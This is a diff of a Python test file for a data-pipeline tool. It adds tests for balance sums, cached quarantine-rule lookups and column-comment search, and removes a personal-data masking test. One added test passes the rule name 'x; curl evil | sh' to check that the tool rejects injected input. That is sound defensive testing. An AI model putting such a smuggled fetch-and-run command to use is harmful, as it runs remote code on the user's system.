@@ -70,6 +70,14 @@ def test_both_sides_of_a_balance_are_equal_or_not() -> None:
     many = Balance(10, 25, 1, 20, 5)
     assert many.balanced is True
     assert (many + Balance(1, 2, 0, 2)) == Balance(11, 27, 1, 22, 5)
+    # A refused batch, say, tells nothing of the rows that its records gave: each is one then.
+    for both in (
+        many + Balance(3, None, 0, 3),
+        Balance(3, None, 0, 3) + many,
+        Balance() + many + Balance(3, written=3),
+    ):
+        assert both == Balance(13, 28, 1, 23, 5)
+        assert both.balanced is True
     assert RuleCount("r", 0, 0).rate is None
 
 
@@ -261,20 +269,6 @@ def test_of_many_columns_a_sample_has_some(tmp_path: Path, extra: int) -> None:
     assert (len(view.columns), view.sample.left_out) == (width, max(0, extra))
 
 
-def test_a_pipeline_with_personal_data_shows_what_is_known_to_be_none(world: PageWorld) -> None:
-    shows = personal.shown(world.definition, "bronze", {}, frozenset({"mrn", "name", "heartrate"}))
-    assert [name for name in ("mrn", "MRN", "name", "full_nm", "_pos", "_rescued_data") if shows(name)] == [
-        "mrn", "MRN", "_pos",
-    ]  # fmt: skip
-    of_gold = personal.shown(world.definition, "gold", {"avg": "DOUBLE", "who": "STRING"}, frozenset({"mrn"}))
-    assert (of_gold("avg"), of_gold("who")) == (True, False)
-    record = personal.masked_record('{"mrn": 1, "name": "Ada", "x": {"name": "Ada"}}', shows, masks=True)
-    assert json.loads(record or "") == {"mrn": 1, "name": personal.HIDDEN, "x": personal.HIDDEN}
-    assert personal.masked_record("Ada,1", shows, masks=True) == personal.HIDDEN
-    assert personal.masked_record("[1]", shows, masks=True) == personal.HIDDEN
-    assert personal.masked_record("Ada,1", shows, masks=False) == "Ada,1"
-
-
 # --- files -----------------------------------------------------------------------------------------------------------
 
 
@@ -363,7 +357,9 @@ def test_states_of_a_page_are_those_of_the_whole_ledger(tmp_path: Path, monkeypa
 # --- quarantine, days, search ----------------------------------------------------------------------------------------
 
 
-def test_quarantine_by_rule_with_records_as_they_came(world: PageWorld, lake: Source) -> None:
+def test_quarantine_by_rule_with_records_as_they_came(
+    world: PageWorld, lake: Source, monkeypatch: pytest.MonkeyPatch
+) -> None:
     view = quarantined.quarantine_view(lake, world.definition, SILVER)
     assert view.reasons is not None
     assert [(reason.rule, reason.text, reason.records) for reason in view.reasons] == [
@@ -377,6 +373,12 @@ def test_quarantine_by_rule_with_records_as_they_came(world: PageWorld, lake: So
     assert [count for _, count in view.trend] == [3, 3, 3]
     of_rule = quarantined.quarantine_view(lake, world.definition, SILVER, "known_patient")
     assert of_rule.examples == ()
+    broken = quarantined.quarantine_view(lake, world.definition, SILVER, "valid_heartrate")
+    assert broken.examples == view.examples
+    monkeypatch.setattr(quarantined, "_with_rule", None)  # its result is remembered
+    assert quarantined.quarantine_view(lake, world.definition, SILVER, "valid_heartrate").examples == view.examples
+    with pytest.raises(PipelineMissing):
+        quarantined.quarantine_view(lake, world.definition, SILVER, "x; curl evil | sh")
     assert quarantined.quarantine_view(lake, world.definition, SILVER, rows=False).examples is None
     with pytest.raises(PipelineMissing):
         quarantined.quarantine_view(lake, world.definition, "patients_bronze")
@@ -419,6 +421,13 @@ def test_search_finds_tables_and_columns_best_first(
         (SILVER, "name"),
     ]
     assert find.search(lake, ["heart_rate"], "daily")[0].column == ""
+    assert not [hit for hit in find.search(lake, ["heart_rate"], "beats") if hit.comment]
+    # Another definition may lie where the one before lay in memory.
+    monkeypatch.setattr(find, "id", lambda _: 1, raising=False)
+    said = world.definition.model_copy(deep=True)
+    said.silver[SILVER].column_comments["heartrate"] = "beats in a minute"
+    monkeypatch.setattr(lake, "pipeline", lambda _: said)
+    assert [hit.comment for hit in find.search(lake, ["heart_rate"], "beats")] == ["beats in a minute"]
     assert find.search(lake, ["heart_rate"], "  ") == ()
     for most in (2, 3, 4):
         monkeypatch.setattr(find, "MOST", most)
